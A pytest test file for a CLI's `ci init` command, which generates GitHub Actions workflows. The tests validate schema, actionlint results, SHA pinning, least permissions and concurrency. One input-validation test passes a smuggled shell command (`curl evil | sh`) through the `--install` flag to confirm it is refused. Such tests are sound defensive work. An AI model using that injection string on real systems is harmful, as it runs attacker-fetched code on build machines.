"""`groundctl ci init`: the workflow set it writes, validated offline against GitHub's workflow schema (the
copy check-jsonschema ships) and by actionlint where it is installed, with SHA-pinned actions, least
permissions, one concurrency group per environment, and only groundctl commands and flags that exist."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from bootstrap.ci.workflows import ACTIONS, APPLY_WORKFLOW, DRIFT_WORKFLOW, PR_WORKFLOW, REHEARSE_WORKFLOW, render
from tests.ci_workflow import OPTIONS, groundctl_lines, pin_groundctl, rendered, step
from tests.conftest import REPO
from tests.test_cli_errors import assert_refused, groundctl
from tests.test_runbooks import ROOT, _words, check_command

SCHEMAS = ("vendor.github-workflows", "custom.github-workflows-require-timeout")


@pytest.fixture
def fresh_repo(tmp_path, release_mirror) -> Path:
    """A repository that holds environments/ (the shipped example specs), its requirements file and its pins lock."""
    shutil.copytree(REPO / "environments", tmp_path / "environments")
    pin_groundctl(tmp_path)
    release_mirror.lock(tmp_path)
    return tmp_path


@pytest.fixture
def init(monkeypatch, capsys):
    """`groundctl ci init --dir REPO ARGS…` through the front door: (exit code, stdout, stderr)."""
    def run(repo: Path, *args: str):
        return groundctl(monkeypatch, capsys, "ci", "init", "--dir", str(repo), *args)

    return run


def _schema_check(*files: Path) -> subprocess.CompletedProcess:
    results = [subprocess.run([sys.executable, "-m", "check_jsonschema", "--builtin-schema", schema, *map(str, files)],
                              capture_output=True, text=True, timeout=120) for schema in SCHEMAS]
    failed = [r for r in results if r.returncode != 0]
    return failed[0] if failed else results[0]


def _actionlint() -> str:
    found = shutil.which("actionlint")
    if found is None:
        pytest.skip("actionlint is not installed (it ships no Python wheel; install it with "
                    "`go install github.com/rhysd/actionlint/cmd/actionlint@v1.7.12`); the schema check still ran")
    return found


def _lint(repo: Path, *files: Path) -> subprocess.CompletedProcess:
    return subprocess.run([_actionlint(), "-no-color", *map(str, files)], cwd=repo, capture_output=True,
                          text=True, timeout=120)


def test_init_writes_the_workflow_set_into_a_fresh_repository(fresh_repo, init):
    code, out, err = init(fresh_repo, "--json")
    assert code == 0, err
    report = json.loads(out)
    written = sorted(p.name for p in (fresh_repo / ".github" / "workflows").iterdir())
    assert written == sorted([PR_WORKFLOW, APPLY_WORKFLOW, DRIFT_WORKFLOW, REHEARSE_WORKFLOW])
    assert set(report["files"].values()) == {"written"}
    rows = {r["environment"]: r for r in report["environments"]}
    # local names no roles: it is planned offline only; dev and prod name every role.
    assert not any(rows["local"][k] for k in ("live_plan", "scheduled_drift", "apply_on_merge"))
    assert all(rows[e][k] for e in ("dev", "prod") for k in ("live_plan", "scheduled_drift", "apply_on_merge"))
    code, out, _ = init(fresh_repo, "--json")
    assert code == 0 and set(json.loads(out)["files"].values()) == {"unchanged"}


def test_init_leaves_the_drift_workflow_out_where_the_fleet_checks_drift(fresh_repo, init):
    code, out, err = init(fresh_repo, "--no-drift", "--json")
    assert code == 0, err
    report = json.loads(out)
    written = sorted(p.name for p in (fresh_repo / ".github" / "workflows").iterdir())
    assert written == sorted([PR_WORKFLOW, APPLY_WORKFLOW, REHEARSE_WORKFLOW])
    assert f".github/workflows/{DRIFT_WORKFLOW}" not in report["files"]
    assert not any(r["scheduled_drift"] for r in report["environments"])
    # One written before is the operator's to delete: left as it is, and said so.
    assert init(fresh_repo, "--force")[0] == 0
    drift = fresh_repo / ".github" / "workflows" / DRIFT_WORKFLOW
    before = drift.read_text()
    code, out, err = init(fresh_repo, "--no-drift", "--json")
    assert code == 0 and drift.read_text() == before
    assert any(DRIFT_WORKFLOW in note and "left as it is" in note for note in json.loads(out)["install_notes"]), out


def test_init_never_overwrites_a_different_file_without_force(fresh_repo, init):
    assert init(fresh_repo)[0] == 0
    edited = fresh_repo / ".github" / "workflows" / PR_WORKFLOW
    edited.write_text(edited.read_text() + "# a local edit\n")
    assert_refused(init(fresh_repo, "--python-version", "3.12"), 3, "other content", "--force")
    assert edited.read_text().endswith("# a local edit\n")  # nothing written
    assert '"3.11"' in (fresh_repo / ".github" / "workflows" / DRIFT_WORKFLOW).read_text()
    code, out, _ = init(fresh_repo, "--python-version", "3.12", "--force", "--json")
    assert code == 0 and json.loads(out)["files"][f".github/workflows/{PR_WORKFLOW}"] == "replaced"
    assert '"3.12"' in edited.read_text()


def test_init_refuses_bad_input_with_a_message(tmp_path, fresh_repo, init):
    assert_refused(init(tmp_path / "nothing-here"), 2, "holds no environments/ folder")
    for flag, value in (("--drift-schedule", "every day"), ("--pulumi-version", "latest"),
                        ("--install", 'groundctl"; curl evil | sh; "'), ("--default-branch", "main branch")):
        assert_refused(init(fresh_repo, flag, value), 2, flag)
    assert not (fresh_repo / ".github").exists()


def test_the_workflows_pass_githubs_workflow_schema(fresh_repo, init):
    assert init(fresh_repo)[0] == 0
    files = sorted((fresh_repo / ".github" / "workflows").glob("*.yml"))
    result = _schema_check(*files)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "ok -- validation done" in result.stdout


def test_the_workflows_pass_actionlint(fresh_repo, init):
    assert init(fresh_repo)[0] == 0
    files = sorted((fresh_repo / ".github" / "workflows").glob("*.yml"))
    result = _lint(fresh_repo, *files)
    assert result.returncode == 0, result.stdout + result.stderr


def test_a_broken_workflow_is_caught(fresh_repo, init):
    """Both validators fail on a workflow broken the way hand edits break them."""
    assert init(fresh_repo)[0] == 0
    good = (fresh_repo / ".github" / "workflows" / PR_WORKFLOW).read_text()
    # Not a workflow at all for GitHub: a job with no runner, and a permission level that does not exist.
    schema_broken = fresh_repo / "schema-broken.yml"
    schema_broken.write_text(good.replace("    runs-on: ubuntu-latest\n", "", 1)
                             .replace("id-token: write", "id-token: admin", 1))
    result = _schema_check(schema_broken)
    assert result.returncode != 0
    assert "runs-on" in result.stdout + result.stderr or "admin" in result.stdout + result.stderr
    # Valid YAML and schema, wrong meaning: a step output that does not exist and a job it does not need.
    lint_broken = fresh_repo / ".github" / "workflows" / "lint-broken.yml"
    lint_broken.write_text(good.replace("steps.credentials.outcome", "steps.credentails.outcome", 1)
                           .replace("needs: [detect, plan]", "needs: [detect, plans]", 1))
    assert _schema_check(lint_broken).returncode == 0  # the schema alone cannot see this
    result = _lint(fresh_repo, lint_broken)
    assert result.returncode != 0
    assert "credentails" in result.stdout and "plans" in result.stdout


def test_every_action_is_pinned_by_a_full_commit_sha():
    pinned = {f"{a.repository}@{a.commit}" for a in ACTIONS.values()}
    used = set()
    for name, doc in rendered().items():
        for job in doc["jobs"].values():
            for s in job["steps"]:
                if "uses" in s:
                    assert re.fullmatch(r"[\w.-]+/[\w.-]+@[0-9a-f]{40}", s["uses"]), (name, s["uses"])
                    used.add(s["uses"])
    assert used == pinned  # every pin is used, and nothing unpinned slipped in
    for path, text in render(OPTIONS).items():
        for line in text.splitlines():
            if "uses:" in line:
                assert re.search(r"@[0-9a-f]{40}  # v\d+\.\d+\.\d+$", line), (path, line)  # the release, for readers


# What each job may do; anything more is a finding. Write access appears only where it is the job's point.
EXPECTED_PERMISSIONS = {
    (PR_WORKFLOW, "detect"): {"contents": "read"},
    (PR_WORKFLOW, "plan"): {"contents": "read", "id-token": "write"},
    (PR_WORKFLOW, "comment"): {"pull-requests": "write"},
    (PR_WORKFLOW, "result"): {},
    (APPLY_WORKFLOW, "detect"): {"contents": "read"},
    (APPLY_WORKFLOW, "apply"): {"contents": "read", "id-token": "write", "actions": "read", "pull-requests": "read"},
    (DRIFT_WORKFLOW, "detect"): {"contents": "read"},
    (DRIFT_WORKFLOW, "drift"): {"contents": "read", "id-token": "write", "issues": "write"},
    (REHEARSE_WORKFLOW, "detect"): {"contents": "read"},
    (REHEARSE_WORKFLOW, "rehearse"): {"contents": "read", "id-token": "write"},
}


def test_least_permissions_per_job():
    seen = {}
    for name, doc in rendered().items():
        assert doc["permissions"] == {}, name  # nothing by default; each job asks for its own
        for job_id, job in doc["jobs"].items():
            seen[(name, job_id)] = job["permissions"]
    assert seen == EXPECTED_PERMISSIONS
    # The only job that writes to the pull request runs none of its code: no checkout, no install.
    comment = rendered()[PR_WORKFLOW]["jobs"]["comment"]
    assert not any("checkout" in s.get("uses", "") or "pip install" in s.get("run", "") for s in comment["steps"])
    for doc in rendered().values():
        for job in doc["jobs"].values():
            for s in job["steps"]:
                if "actions/checkout" in s.get("uses", ""):
                    assert s["with"]["persist-credentials"] is False


def test_one_concurrency_group_per_environment():
    docs = rendered()
    for name, doc in docs.items():
        for job_id, job in doc["jobs"].items():
            if "matrix" not in job.get("strategy", {}):
                continue
            group = job["concurrency"]["group"]
            assert "${{ matrix.environment }}" in group, (name, job_id)
    # What changes or reads live state on the default branch queues per environment, and is never cancelled.
    apply = docs[APPLY_WORKFLOW]["jobs"]["apply"]["concurrency"]
    drift = docs[DRIFT_WORKFLOW]["jobs"]["drift"]["concurrency"]
    assert apply == drift == {"group": "groundctl-${{ matrix.environment }}", "cancel-in-progress": False}
    # A new push to a pull request supersedes its running plan of the same environment.
    plan = docs[PR_WORKFLOW]["jobs"]["plan"]["concurrency"]
    assert plan["cancel-in-progress"] is True and "pull_request.number" in plan["group"]


def test_every_groundctl_command_in_the_workflows_exists_with_its_flags():
    found = []
    for name, doc in rendered().items():
        for job in doc["jobs"].values():
            for s in job["steps"]:
                for line in groundctl_lines(s.get("run", "")):
                    found.append(line)
                    problem = check_command(ROOT, _words(line))
                    assert problem is None, f"{name}: {line}: {problem}"
    text = "\n".join(found)
    for expected in ('groundctl spec check "$ENVIRONMENT"', 'groundctl plan "$ENVIRONMENT" --offline',
                     'groundctl plan "$ENVIRONMENT" --out "$PLAN_DIR/live"',
                     'groundctl up "$ENVIRONMENT" --plan-dir approved/live --yes --json',
                     'groundctl drift "$ENVIRONMENT" --record --json', "groundctl ci targets", "groundctl ci comment",
                     "groundctl ci summary", "groundctl ci drift-issue", "groundctl ci digests",
                     "groundctl ci verify-plan"):
        assert expected in text, expected


def test_the_merge_applies_exactly_the_plan_files_the_pull_request_kept():
    docs = rendered()
    plan = docs[PR_WORKFLOW]["jobs"]["plan"]
    # The folder holds each layer's Pulumi saved plan beside the plan files: the merge is held to it.
    upload = step(plan, "Keep the plan files and Pulumi's saved plans (the merge applies plans/<env>/live)")
    assert plan["env"]["PLAN_DIR"] == upload["with"]["path"] == "plans/${{ matrix.environment }}"
    assert upload["with"]["name"] == "groundctl-plan-${{ matrix.environment }}"
    assert '--out "$PLAN_DIR/live"' in step(plan, "Live plan")["run"]
    apply = docs[APPLY_WORKFLOW]["jobs"]["apply"]
    download = step(apply, "Download the approved plan")
    assert download["with"]["name"] == upload["with"]["name"] and download["with"]["path"] == "approved"
    assert download["with"]["run-id"] == "${{ steps.approved.outputs.run_id }}"
    assert f"--workflow {PR_WORKFLOW}" in step(apply, "Find the approved plan")["run"]
    assert "--plan-dir approved/live --yes" in step(apply, "Apply the approved plan")["run"]
    assert "--allow-destroy" not in json.dumps(docs)  # destructive changes are an operator's call
    # The summary runs whatever happened before it, except a cancelled run.
    assert step(apply, "Run record and reason in the job summary")["if"] == "${{ !cancelled() }}"


def test_a_failing_posture_rule_fails_the_check_and_still_comments():
    plan = rendered()[PR_WORKFLOW]["jobs"]["plan"]
    offline = step(plan, "Offline plan and posture rules (no credentials)")
    # Exit 1 on a failed rule fails the step, hence the job and the check: nothing swallows it.
    assert "continue-on-error" not in offline and "|| true" not in offline["run"] and "set +e" not in offline["run"]
    assert step(plan, "Write the sticky comment")["if"] == "${{ !cancelled() }}"
    assert rendered()[PR_WORKFLOW]["jobs"]["comment"]["if"].startswith("${{ !cancelled()")


def test_live_plan_only_with_the_specs_plan_role_and_never_for_forks():
    plan = rendered()[PR_WORKFLOW]["jobs"]["plan"]
    creds = step(plan, "Credentials for the live plan (OIDC, the spec's plan role)")
    assert "matrix.plan_role != ''" in creds["if"]
    assert "github.event.pull_request.head.repo.full_name == github.repository" in creds["if"]
    assert creds["with"]["role-to-assume"] == "${{ matrix.plan_role }}"
    assert creds["with"]["allowed-account-ids"] == "${{ matrix.account_id }}"
    assert "steps.credentials.outcome == 'success'" in step(plan, "Live plan")["if"]
    apply = rendered()[APPLY_WORKFLOW]["jobs"]["apply"]
    assert step(apply, "Credentials (OIDC, the spec's apply role)")["with"]["role-to-assume"] == "${{ matrix.apply_role }}"


@pytest.mark.parametrize("install,key", [(OPTIONS.install, OPTIONS.install), (".", "pyproject.toml")])
def test_every_job_keeps_pips_downloads_keyed_on_the_hash_of_what_it_installs(install, key):
    """Each job installs groundctl and its dependencies (~500 MB): setup-python's pip cache, keyed on the sha256 of
    the hashed requirements file (of pyproject.toml for groundctl's own checkout), keeps the downloads between jobs
    and runs, and a changed file starts a new cache. Every job that installs sets Python up with it, before the
    install."""
    from dataclasses import replace

    for name, workflow in rendered(replace(OPTIONS, install=install)).items():
        for job_name, job in workflow["jobs"].items():
            steps = job.get("steps", [])
            installs = [i for i, s in enumerate(steps) if "pip install" in s.get("run", "")]
            pythons = [i for i, s in enumerate(steps) if s.get("uses", "").startswith("actions/setup-python@")]
            assert len(installs) == len(pythons), (name, job_name)
            for i, j in zip(pythons, installs):
                assert i < j and steps[i]["with"]["cache"] == "pip", (name, job_name)
                assert steps[i]["with"]["cache-dependency-path"] == key, (name, job_name)


def test_rendering_is_deterministic_and_fills_every_placeholder():
    first, second = render(OPTIONS), render(OPTIONS)
    assert first == second
    for text in first.values():
        assert re.search(r"<<\w+>>", text) is None
        yaml.safe_load(text)


def test_drift_opens_or_updates_one_issue_and_closes_it_when_clean():
    drift = rendered()[DRIFT_WORKFLOW]
    triggers = drift[True]  # YAML 1.1 reads the key `on` as true
    assert set(triggers) == {"schedule", "workflow_dispatch"} and triggers["schedule"] == [{"cron": "17 6 * * *"}]
    job = drift["jobs"]["drift"]
    report = step(job, "Drift")
    assert 'groundctl drift "$ENVIRONMENT" --record --json > drift.json' in report["run"]
    assert 'if [ "$code" -gt 1 ]' in report["run"]  # drift (1) is reported, an error (2+) fails the job
    opened = step(job, "Open or update the drift issue")
    assert opened["if"] == "steps.drift.outputs.exit_code == '1'"
    assert 'title="groundctl: drift in ${ENVIRONMENT}"' in opened["run"]
    assert "gh issue edit" in opened["run"] and "gh issue create" in opened["run"]
    closed = step(job, "Close the drift issue once the environment is clean again")
    assert closed["if"] == "steps.drift.outputs.exit_code == '0'" and "gh issue close" in closed["run"]
    # It writes a record a reviewer trusts: the record role, never the plan role a pull request's code runs with.
    assert step(job, "Credentials (OIDC, the spec's record role)")["with"]["role-to-assume"] == \
        "${{ matrix.record_role }}"
    assert "--needs record-role" in step(drift["jobs"]["detect"], "Every environment with a record role")["run"]


def test_triggers_follow_the_default_branch():
    from dataclasses import replace

    docs = rendered(replace(OPTIONS, default_branch="trunk"))
    assert docs[PR_WORKFLOW][True] == {"pull_request": {"branches": ["trunk"]}}
    assert docs[APPLY_WORKFLOW][True] == {"push": {"branches": ["trunk"]}}
